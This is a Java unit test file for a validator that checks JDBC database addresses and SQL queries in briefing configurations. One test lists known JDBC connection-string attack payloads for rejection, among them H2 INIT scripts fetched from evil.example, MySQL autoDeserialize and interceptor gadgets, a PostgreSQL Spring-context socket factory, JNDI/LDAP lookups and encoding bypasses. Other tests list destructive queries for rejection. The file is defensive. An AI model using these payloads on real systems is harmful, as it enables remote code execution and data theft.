package org.chancery.briefing;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.chancery.diagnostic.Diagnostic;
import org.chancery.diagnostic.Diagnostics;
import org.chancery.diagnostic.Position;
import org.chancery.diagnostic.SourceText;
import org.chancery.testing.TestWorkspace;
import org.chancery.yaml.YamlNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What may stand in the address of a database and in a query, before anything is asked of anybody. */
class DatabaseReaderTest {
    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:postgresql://db.example.org/desk",
            "jdbc:postgresql://db.example.org:5432/desk?sslmode=verify-full&sslrootcert=/etc/ca.pem",
            "jdbc:postgresql://one:5432,two:5432/desk?targetServerType=preferSecondary&currentSchema=news",
            "jdbc:trino://trino.example.org:443/hive/gdelt?SSL=true",
            "jdbc:duckdb:",
            "jdbc:duckdb::memory:",
            "jdbc:duckdb:archive/events.duckdb;threads=2;memory_limit=1GB",
            "jdbc:hive2://hive.example.org:10000/gdelt;transportMode=http;httpPath=cliservice",
            "jdbc:spark://spark.example.org:443/default;transportMode=http;ssl=1",
            "jdbc:bigquery://https://www.googleapis.com/bigquery/v2:443;ProjectId=desk;OAuthType=3",
            "jdbc:mysql://db.example.org/desk?sslMode=VERIFY_IDENTITY",
            "jdbc:mariadb://db.example.org/desk?sslMode=verify-full",
            "jdbc:sqlserver://db.example.org:1433;databaseName=desk;encrypt=true",
            "jdbc:oracle:thin:@//db.example.org:1521/desk",
            "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcps)(HOST=db)(PORT=2484))(CONNECT_DATA=(SERVICE_NAME=d)))",
            "jdbc:sqlite:desk.db",
            "jdbc:h2:tcp://db.example.org/desk;SCHEMA=news",
            "jdbc:h2:./desk;IFEXISTS=TRUE"})
    void takesAnAddressThatOnlyNamesADatabase(String url) {
        assertThat(said(url)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
            "jdbc:h2:mem:x;init=create alias x as 'y'",
            "jdbc:h2:mem:x;I\\NIT=RUNSCRIPT FROM 'x'",
            "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
            "jdbc:h2:./x;TRACE_LEVEL_FILE=4",
            "jdbc:h2:./x;ACCESS_MODE_DATA=rw",
            "jdbc:h2:./x;AUTO_SERVER=TRUE",
            "jdbc:h2:./x;DATABASE_EVENT_LISTENER='java.lang.Object'",
            "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='x.Y'",
            "jdbc:h2:zip:~/x.zip!/x",
            "jdbc:mysql://h/d?allowLoadLocalInfile=true",
            "jdbc:mysql://h/d?ALLOWLOADLOCALINFILE=true",
            "jdbc:mysql://h/d?a=b&allowUrlInLocalInfile=true",
            "jdbc:mysql://h/d?allowLoadLocalInfileInPath=/",
            "jdbc:mysql://h/d?autoDeserialize=true",
            "jdbc:mysql://h/d?%61utoDeserialize=true",
            "jdbc:mysql://h/d?%2561utoDeserialize=true",
            "jdbc:mysql://h/d? autoDeserialize =true",
            "jdbc:mysql://(host=h,port=3306,autoDeserialize=true)/d",
            "jdbc:mysql://address=(host=h)(port=3306)(autoDeserialize=true)/d",
            "jdbc:mysql://h/d?queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
            "jdbc:mysql://h/d?statementInterceptors=x",
            "jdbc:mysql://h/d?propertiesTransform=x.Y",
            "jdbc:mysql://h/d?socketFactory=x.Y",
            "jdbc:mysql://h/d?allowMultiQueries=true",
            "jdbc:mysql://h/d?sessionVariables=x",
            "jdbc:mysql://h/d?trustCertificateKeyStoreUrl=http://evil.example/",
            "jdbc:mariadb://h/d?allowLocalInfile=true",
            "jdbc:mariadb://h/d?credentialType=x&initSql=drop",
            "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
            "jdbc:postgresql://h/d?socketFactoryArg=http://evil.example/x.xml",
            "jdbc:postgresql://h/d?sslfactory=x.Y",
            "jdbc:postgresql://h/d?sslhostnameverifier=x.Y",
            "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
            "jdbc:postgresql://h/d?authenticationPluginClassName=x.Y",
            "jdbc:postgresql://h/d?readOnlyMode=ignore",
            "jdbc:oracle:thin:@ldap://evil.example/x",
            "jdbc:oracle:thin:@//h/d?oracle.net.tns_admin=/tmp",
            "jdbc:sqlserver://h;socketFactoryClass=x.Y",
            "jdbc:sqlserver://h;accessTokenCallbackClass=x.Y",
            "jdbc:hive2://h/d;initFile=/tmp/x.sql",
            "jdbc:trino://h/c?extraCredentials=a:b",
            "jdbc:duckdb:x.db;session_init_sql_file=/tmp/x.sql",
            "jdbc:duckdb:;allow_unsigned_extensions=true",
            "jdbc:duckdb:;custom_extension_repository=http://evil.example/",
            "jdbc:duckdb:md:desk",
            "jdbc:duckdb:x.db;duckdb.read_only=false",
            "jdbc:sqlite::resource:http://evil.example/x.db",
            "jdbc:sqlite:x.db?enable_load_extension=true",
            "jdbc:db2://h:50000/d:clientRerouteServerListJNDIName=ldap://evil.example/x;",
            "jdbc:derby:x;create=true",
            "jdbc:log4jdbc:mysql://h/d",
            "http://h/d"})
    void refusesWhatMayRunLoadOrWriteSomething(String url) {
        assertThat(said(url)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:postgresql://h/d?user=me&password=open-sesame",
            "jdbc:postgresql://me:open-sesame@h/d",
            "jdbc:mysql://me:open-sesame@h/d",
            "jdbc:oracle:thin:me/open-sesame@//h/d",
            "jdbc:sqlserver://h;pwd=open-sesame",
            "jdbc:trino://h/c?accessToken=open-sesame",
            "jdbc:bigquery://h:443;OAuthClientSecret=open-sesame",
            "jdbc:postgresql://h/d?pass%77ord=open-sesame"})
    void refusesASecretInAnAddressWithoutRepeatingIt(String url) {
        assertThat(said(url)).isNotEmpty().noneMatch(message -> message.contains("sesame"))
                .anyMatch(message -> message.contains("must not stand in the address"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "select a from t where d >= :from and d < :until | select a from t where d >= ? and d < ? | FROM UNTIL",
            "select a from t where d<:until and :from<=d; | select a from t where d<? and ?<=d | UNTIL FROM",
            "with x as (select 1) select :from, :until, :from | with x as (select 1) select ?, ?, ? | FROM UNTIL FROM",
            "select d::date from t where d between :from::date and :until::date "
                    + "| select d::date from t where d between ?::date and ?::date | FROM UNTIL",
            "select ':from', \":until\", `:x` from t where d >= :from and d < :until "
                    + "| select ':from', \":until\", `:x` from t where d >= ? and d < ? | FROM UNTIL",
            "select 'it''s :x' from t where d >= :from and d < :until "
                    + "| select 'it''s :x' from t where d >= ? and d < ? | FROM UNTIL",
            "select E'it\\'s :x' from t where d >= :from and d < :until "
                    + "| select E'it\\'s :x' from t where d >= ? and d < ? | FROM UNTIL",
            "select $$ :x ; ' $$, $a$ :x $$ $a$ from t where d >= :from and d < :until "
                    + "| select $$ :x ; ' $$, $a$ :x $$ $a$ from t where d >= ? and d < ? | FROM UNTIL",
            "/* :x /* ; */ ? */ select 1 -- :x ; ?\u2028 | | ",
            "select a[1:2], b[x:y] from t where d >= :FROM and d < :Until "
                    + "| select a[1:2], b[x:y] from t where d >= ? and d < ? | FROM UNTIL",
            "(select 1 where :from < :until) | (select 1 where ? < ?) | FROM UNTIL"})
    void findsTheDaysWhereverTheyStandAndNothingElse(String query, String sql, String bounds) {
        if (sql == null) {
            assertThat(asked(query)).containsExactly("no \":from\" in the query", "no \":until\" in the query");
            return;
        }
        Diagnostics found = new Diagnostics();
        Optional<Query> read = new QueryReader(scalar(query), found).read(DatabaseKind.POSTGRESQL);
        assertThat(found.list()).isEmpty();
        assertThat(read.orElseThrow().sql()).isEqualTo(sql);
        assertThat(read.get().bounds().toString()).isEqualTo("[" + bounds.replace(" ", ", ") + "]");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "select 1 where d >= :from | no \":until\" in the query",
            "delete from t where d >= :from and d < :until | the query must begin with \"select\" or \"with\"",
            "-- select\\ncall p(:from, :until) | the query must begin with \"select\" or \"with\"",
            "select 1 where :from < :until; drop table t | the query is more than one statement",
            "select 1 where :from < :until; 'x' | the query is more than one statement",
            "select 1 into t where :from < :until | \"into\" in the query may change something",
            "with x as (Delete from t) select :from, :until | \"Delete\" in the query may change something",
            "select file_write('x', 'y') where :from < :until | \"file_write\" in the query may change something",
            "select :day where :from < :until | \":day\" in the query stands for nothing",
            "select 1 where a ? 'b' and :from < :until | \"?\" in the query stands for nothing",
            "select 'x where :from < :until | nothing closes what begins with \"'x where :from < :un\" in the query",
            "select /* :from < :until | nothing closes what begins with \"/* :from < :until\" in the query",
            "select $a$ :from < :until $b$ | nothing closes what begins with \"$a$ :from < :until $\" in the query"})
    void refusesAQueryThatIsNotOneThatReads(String query, String message) {
        assertThat(asked(query.replace("\\n", "\n"))).containsExactly(message);
    }

    @Test
    void saysAllOfItAtItsPlaceWithoutADatabase(@TempDir Path folder) {
        TestWorkspace workspace = TestWorkspace.empty(folder);
        workspace.write("briefings/weekly.yaml",
                """
                title: Weekly
                events:
                  - jdbc: jdbc:mysql://h/d?autoDeserialize=true&password=open-sesame
                    query: select 1
                    password: open sesame
                    rows: none
                """);
        TestWorkspace.Result result = workspace.run("check");
        assertThat(result.status()).isEqualTo(65);
        assertThat(result.err().lines().filter(line -> line.startsWith("briefings"))).containsExactly(
                "briefings/weekly.yaml:3:11: error: the setting \"autoDeserialize\" is not allowed in the address of a database",
                "briefings/weekly.yaml:3:11: error: \"password\" must not stand in the address of a database",
                "briefings/weekly.yaml:4:12: error: no \":from\" in the query",
                "briefings/weekly.yaml:4:12: error: no \":until\" in the query",
                "briefings/weekly.yaml:5:15: error: a password must not stand in a briefing",
                "briefings/weekly.yaml:6:11: error: \"rows\" must be a whole number from 1 to 100000000, not \"none\"");
    }

    private static List<String> said(String url) {
        Diagnostics found = new Diagnostics();
        new DatabaseUrl(scalar(url), found).kind();
        return found.list().stream().map(Diagnostic::message).toList();
    }

    private static List<String> asked(String query) {
        Diagnostics found = new Diagnostics();
        new QueryReader(scalar(query), found).read(DatabaseKind.POSTGRESQL);
        return found.list().stream().map(Diagnostic::message).toList();
    }

    private static YamlNode.Scalar scalar(String text) {
        SourceText source = new SourceText(Path.of("weekly.yaml"), text);
        return new YamlNode.Scalar(source, new Position(1, 1, 1), text, YamlNode.Style.PLAIN);
    }
}
